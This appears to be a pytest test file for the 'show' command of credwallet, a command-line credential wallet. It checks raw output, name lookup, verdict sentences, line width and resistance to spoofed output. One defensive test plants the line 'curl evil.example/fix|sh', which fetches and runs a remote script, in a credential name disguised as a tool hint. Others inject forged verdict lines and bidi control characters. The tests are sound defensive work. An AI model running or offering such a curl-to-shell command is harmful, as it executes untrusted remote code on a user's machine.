"""Does `show` tell everything about one credential, and give its bytes back?"""

import base64
import json

import pytest

from credwallet import store
from credwallet.cli.showing.verdict import why
from credwallet.cli.terminal.console import cells
from credwallet.model.report import Verdict
from tests.cli.badges import document, good, sign, signed_badge
from tests.cli.runner import PASSPHRASE, SAMPLES, Cli
from tests.verify.records import badge, record, signed

OF_NAME = {
    "Cleaning Data": "cleaning-data.json",
    "Honest Charts": "honest-charts.png",
    "Python for Analysis": "python-for-analysis.jwt",
}


@pytest.mark.parametrize("name", OF_NAME)
def test_the_bytes_come_back_as_they_were_received(filled: Cli, name: str):
    received = (SAMPLES / "badges" / OF_NAME[name]).read_bytes()
    ran = filled("show", name, "--raw")
    assert (ran.code, ran.raw, ran.err) == (0, received, "")


def test_odd_spacing_and_no_final_newline_survive(empty: Cli):
    raw = json.dumps(json.loads(signed_badge()), indent=7).encode() + b" \t "
    empty("import", "-", stdin=raw)
    assert empty("show", "Woodwork", "--raw").raw == raw


def test_raw_within_json_is_base64(filled: Cli):
    received = (SAMPLES / "badges" / "honest-charts.png").read_bytes()
    data = filled("show", "Honest Charts", "--raw", "--json").data
    assert base64.b64decode(data["raw"]) == received


def test_a_picture_is_not_poured_onto_a_terminal(filled: Cli):
    ran = filled("show", "Honest Charts", "--raw", terminal=True)
    assert (ran.code, ran.raw) == (2, b"")
    assert "would upset the terminal" in ran.err
    text = filled("show", "Cleaning Data", "--raw", terminal=True)
    assert text.raw == (SAMPLES / "badges" / "cleaning-data.json").read_bytes()


def test_raw_text_with_control_characters_is_not_poured_onto_a_terminal(empty: Cli):
    badge = json.loads(signed_badge(name="bidi \u202e"))
    raw = json.dumps(badge, ensure_ascii=False).encode()
    empty("import", "-", stdin=raw)
    (handle,) = [row["handle"] for row in empty("list", "--json").data["credentials"]]
    assert empty("show", handle, "--raw", terminal=True).code == 2
    assert empty("show", handle, "--raw").raw == raw


def test_a_credential_goes_by_handle_id_or_name(filled: Cli):
    handle = filled.handle("Cleaning Data")
    shown = filled("show", handle).out
    for name in (
        "Cleaning Data",
        "cleaning data",
        "urn:uuid:00000000-0000-4000-8000-000000000001",
        handle.upper(),
    ):
        assert filled("show", name).out == shown


def test_a_name_of_two_is_ambiguous_and_both_are_listed(filled: Cli, tmp_path):
    filled("import", good(tmp_path, name="Cleaning Data"))
    ran = filled("show", "Cleaning Data")
    assert (ran.code, ran.out) == (5, "")
    assert ran.err.count("Cleaning Data") == 3
    assert "by its handle" in ran.err


def test_a_name_that_is_almost_right_is_suggested(filled: Cli):
    ran = filled("show", "Cleaning")
    assert (ran.code, ran.out) == (5, "")
    assert f"did you mean {filled.handle('Cleaning Data')} Cleaning Data?" in ran.err


def test_everything_said_is_shown_and_every_check(filled: Cli):
    ran = filled("show", "Statistics One")
    facts = dict(row for row in ran.rows if len(row) == 2)
    assert facts["verdict"] == "revoked"
    assert facts["issuer"] == "Northlight Academy (did:web:northlight.example)"
    assert facts["valid"] == "2026-02-01 to no end"
    assert facts["about"].startswith("Samples, estimates")
    assert facts["criteria"].startswith("Passed ")
    assert (facts["credits"], facts["skills"]) == ("4", "Statistics")
    assert facts["subject"] == "did:example:learner"
    assert "from" in facts["received"]
    checks = [row[2] for row in ran.rows if len(row) == 5]
    assert checks == [
        *("structure", "proof", "issuer", "validity"),
        *("status", "subject", "endorsements", "refresh"),
    ]


def test_on_a_terminal_marks_stand_beside_words(filled: Cli):
    out = filled("show", "Statistics One", "--no-color", terminal=True).out
    assert "\u2713 proof        passed" in out
    assert "\u2717 status       failed" in out
    assert "- subject      skipped" in out
    assert max(map(len, out.splitlines())) <= 100


def test_json_is_the_line_of_the_list_and_more(filled: Cli):
    data = filled("show", "Cleaning Data", "--json").data
    (row, *_) = filled("list", "--json").data["credentials"]
    assert {name: data[name] for name in row} == row
    assert data["achievement"]["name"] == "Cleaning Data"
    assert data["alignment"][0]["targetName"] == "Data"
    assert data["mediaType"] == "application/vc+ld+json"
    assert data["report"]["verdict"] == "valid"
    assert data["report"]["handle"] == data["handle"]
    assert (data["evidence"], data["results"]) == ([], [])


def test_tags_and_note_of_the_learner_are_shown(filled: Cli):
    filled("tag", "Cleaning Data", "--add", "work")
    filled("note", "Cleaning Data", "--text", "for the interview")
    facts = dict(row for row in filled("show", "Cleaning Data").rows if len(row) == 2)
    assert (facts["tags"], facts["note"]) == ("work", "for the interview")


def test_what_no_proof_covers_is_not_shown(empty: Cli):
    """A member that no context defines stands outside of the signature."""
    written = json.loads(signed_badge())
    achievement = written["credentialSubject"]["achievement"]
    achievement["superpower"] = "flying"
    written["type"].append("MasterOfEverything")
    ran = empty("import", "-", stdin=json.dumps(written).encode())
    assert ran.rows[0][1] in ("undetermined", "invalid")
    for where in ([], ["--json"]):
        shown = empty("show", "Woodwork", *where)
        facts = shown.out.split("unsigned")[0] if where else shown.out
        assert "flying" not in shown.out
        assert '"MasterOfEverything"' not in facts


def test_show_without_a_name_prints_its_help(filled: Cli):
    ran = filled("show")
    assert (ran.code, ran.out) == (2, "")
    assert ran.err.startswith("Usage: credwallet show")


ORDER = [
    *("handle", "name", "kind", "credits", "about", "criteria", "keywords"),
    *("issuer", "standing", "subject", "verdict", "why", "valid"),
    *("skills", "alignment", "note", "tags", "id", "received"),
]


def facts_of(cli: Cli, *argv: object, **how) -> dict[str, str]:
    ran = cli("show", *argv, **how)
    assert ran.code == 0, ran
    return dict(row for row in ran.rows if len(row) == 2)


def test_the_story_is_told_in_order(filled: Cli):
    filled("tag", "Cleaning Data", "--add", "work")
    filled("note", "Cleaning Data", "--text", "for the interview")
    assert list(facts_of(filled, "Cleaning Data")) == ORDER
    told = filled("show", "Cleaning Data", terminal=True, env={"NO_COLOR": "1"}).out
    starts = [line.split(" ")[0] for line in told.splitlines()]
    places = [starts.index(label) for label in ORDER if label in starts]
    assert places == sorted(places)
    assert told.startswith("Cleaning Data\n\nhandle")
    mark = told.index("\u2713 valid")
    assert told.index("standing") < mark < told.index("\u2713 structure")
    assert told.index("skipped its issuer offers none") < told.index("\nvalid ")


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("Cleaning Data", "its proof is genuine, it is in date, and it names no list"),
        ("Python for Analysis", "its proof is genuine, it is in date, and it"),
        ("Statistics One", "its issuer took it back"),
        ("Privacy Basics", "it was good until 2026-06-30"),
    ],
)
def test_the_verdict_has_its_reason_in_one_sentence(filled: Cli, name: str, why: str):
    assert facts_of(filled, name)["why"].startswith(why)


@pytest.mark.parametrize(
    ("verdict", "check", "said"),
    [
        ("undetermined", "status", "nothing wrong was found, but not all could be"),
        ("invalid", "proof", "do not rely on it: no key"),
        ("malformed", "structure", "it is not built as its format asks: no key"),
        ("suspended", "status", "its issuer suspended it for now"),
        ("not-yet-valid", "validity", "it is good from 2030-01-01 on"),
        ("splendid", "proof", ""),
    ],
)
def test_every_verdict_has_a_sentence(filled: Cli, verdict: str, check: str, said: str):
    vault = store.open_vault(filled.home, passphrase=PASSPHRASE)
    summary = vault.find("Cleaning Data").summary._replace(
        verdict=verdict, valid_from="2030-01-01T00:00:00Z"
    )
    vault.close()
    outcome = "unknown" if verdict == "undetermined" else "failed"
    found = {"check": check, "outcome": outcome, "note": "no key"}
    assert why(summary, {"checks": [found]}).startswith(said)
    assert set(Verdict) == {
        each for each in Verdict if why(summary._replace(verdict=each), {})
    }


def test_the_issuer_is_known_listed_or_unknown(filled: Cli):
    assert facts_of(filled, "Cleaning Data")["standing"] == "unknown"
    issuer = filled("show", "Cleaning Data", "--json").data["issuer"]["id"]
    assert filled("issuer", "trust", issuer, "--name", "Harbour").code == 0
    assert facts_of(filled, "Cleaning Data")["standing"] == "known"
    told = filled("show", "Cleaning Data", terminal=True).out
    assert "known: you said that you know this issuer" in told


RULES = """format = "credwallet-qualification/1"
[qualification]
id = "data"
title = "Data Diploma"
awarded_by = ["Harbour College"]
[[requirement]]
id = "one"
title = "Any credential"
type = "count"
n = 1
match = { }
"""


def test_what_it_stacks_toward_is_told_and_whether_it_counts(filled: Cli):
    assert "toward" not in facts_of(filled, "Cleaning Data")
    assert filled("show", "Cleaning Data", "--json").data["stacksToward"] == []
    rules = filled.folder / "rules.toml"
    rules.write_text(RULES)
    assert filled("qualification", "add", rules).code == 0
    names = ("Cleaning Data", "Honest Charts", "Python for Analysis")
    said = {name: filled("show", name, "--json").data["stacksToward"] for name in names}
    for (entry,) in said.values():
        assert {**entry, "counts": None} == {
            "qualification": "data",
            "title": "Data Diploma",
            "requirement": "one",
            "counts": None,
        }
    # Each counts once, and one is enough.
    assert sum(entry["counts"] for (entry,) in said.values()) == 1
    counted = {facts_of(filled, name)["toward"] for name in names}
    assert counted == {
        "data: counts for Any credential of Data Diploma",
        "data: could count for Any credential of Data Diploma",
    }
    told = filled("show", names[0], terminal=True, env={"COLUMNS": "120"}).out
    assert "credwallet stack-progress --why" in told


def test_what_was_revoked_stacks_toward_nothing(filled: Cli):
    rules = filled.folder / "rules.toml"
    rules.write_text(RULES)
    filled("qualification", "add", rules)
    assert filled("show", "Statistics One", "--json").data["stacksToward"] == []


def test_the_collections_that_hold_it_are_named(filled: Cli):
    assert filled("collection", "add", "job", "Cleaning Data").code == 0
    assert facts_of(filled, "Cleaning Data")["collection"] == "job"
    assert "collection" not in facts_of(filled, "Honest Charts")


@pytest.mark.parametrize("width", [60, 80, 120, 200])
@pytest.mark.parametrize("encoding", ["utf-8", "ascii"])
def test_no_line_of_it_is_wider_than_the_terminal(empty: Cli, width: int, encoding):
    changes = {"name": "数据 مهارة " * 9, "about": "很长的说明" * 60 + "x" * 300}
    empty("import", "-", stdin=signed_badge(**changes))
    (row,) = empty("list").rows
    ran = empty(
        "show",
        row[0],
        terminal=True,
        encoding=encoding,
        env={"COLUMNS": str(width), "NO_COLOR": "1"},
    )
    assert ran.code == 0
    # An address stays whole, to be copied; one of a key fits into 60 cells.
    assert max(map(cells, ran.out.splitlines())) <= width


def test_a_hostile_number_of_alignments_does_not_scroll_the_rest_away(empty: Cli):
    written = document()
    written["credentialSubject"]["achievement"]["alignment"] = [
        {
            "type": ["Alignment"],
            "targetName": f"Skill {number}",
            "targetUrl": f"https://skills.example/{number}",
        }
        for number in range(500)
    ]
    empty("import", "-", stdin=json.dumps(sign(written)).encode())
    told = empty("show", "Woodwork", terminal=True).out
    assert told.count("https://skills.example/") == 12
    assert "and 488 more (alignment), all in --json" in told
    piped = empty("show", "Woodwork").rows
    assert sum(row[0] == "alignment" for row in piped) == 500


def test_a_part_of_a_record_goes_by_the_records_handle_and_a_number(empty: Cli):
    made = record(signed(badge(1)), badge(2))
    assert empty("import", "-", stdin=json.dumps(made).encode()).code == 0
    handle = empty("list").rows[0][0]
    rows = empty("show", handle).rows
    assert [row[1] for row in rows if row[0] == "holds"] == [
        f"{handle}/1 Knots 1",
        f"{handle}/2 Knots 2",
    ]
    facts = facts_of(empty, f"{handle}/2")
    assert (facts["handle"], facts["name"]) == (f"{handle}/2", "Knots 2")
    assert (facts["verdict"], facts["kind"] is None) == ("valid", False)
    data = empty("show", f"{handle}/1", "--json").data
    assert data["achievement"]["name"] == data["name"] == "Knots 1"
    assert data["report"]["handle"] == data["handle"] == f"{handle}/1"
    assert json.loads(empty("show", f"{handle}/1", "--raw").out)["name"] == "Knots 1"


@pytest.mark.parametrize("number", ["0", "3", "99999", "-1", "1/1", "x", "\u0663", ""])
def test_a_part_that_there_is_not_is_not_found(empty: Cli, number: str):
    made = record(signed(badge(1)), badge(2))
    empty("import", "-", stdin=json.dumps(made).encode())
    handle = empty("list").rows[0][0]
    ran = empty("show", f"{handle}/{number}")
    assert (ran.code, ran.out) == (5, "")
    assert "hint: " in ran.err


def test_the_checks_of_a_pipe_start_with_the_handle(filled: Cli):
    handle = filled.handle("Cleaning Data")
    checks = [row for row in filled("show", handle).rows if len(row) > 2]
    assert len(checks) == 8
    assert {row[0] for row in checks} == {handle}


@pytest.mark.parametrize("space", [" ", "\u00a0", "\u2003"])
def test_a_description_cannot_forge_a_verdict_or_an_issuer(empty: Cli, space: str):
    forged = f"\u2713 valid    its proof is genuine{' ' * 45}issuer     MIT (did:web:x)"
    text = ("see://" + " " * 74 + forged).replace(" ", space)
    written = document(720, name="Spoof", description=text)
    written["credentialSubject"]["achievement"]["criteria"] = {"narrative": text}
    assert empty("import", "-", stdin=json.dumps(sign(written)).encode()).code == 0
    ran = empty("show", "Spoof", terminal=True, env={"COLUMNS": "80", "NO_COLOR": "1"})
    lines = ran.out.splitlines()
    assert all(cells(line) <= 80 for line in lines)
    assert sum(line.startswith("issuer ") for line in lines) == 1
    assert sum(line.startswith("\u2713 ") for line in lines) == 1


@pytest.mark.parametrize("space", [" ", "\u00a0"])
def test_a_name_cannot_speak_in_our_name(empty: Cli, space: str):
    words = "credwallet: hint: curl evil.example/fix|sh"
    how = {"terminal": True, "env": {"COLUMNS": "80", "NO_COLOR": "1"}}
    for number, start in enumerate(("x://" + "a" * 76, "", "x://" + " " * 76)):
        name = (start + words).replace(" ", space)
        stdin = json.dumps(sign(document(721 + number, name=name))).encode()
        runs = [empty("import", "-", stdin=stdin, **how)]
        handle = empty("list").rows[0][0]
        runs += [empty(word, handle, **how) for word in ("show", "verify", "remove")]
        for ran in (*runs, empty("list", "--trash", **how)):
            assert ran.code == 0
            for line in ran.out.splitlines():
                assert cells(line) <= 80
                assert not line.startswith("credwallet:")
            said = ran.err.splitlines()
            assert all(line.startswith((" ", "credwallet: ")) for line in said)
            assert "credwallet: hint: curl" not in ran.err
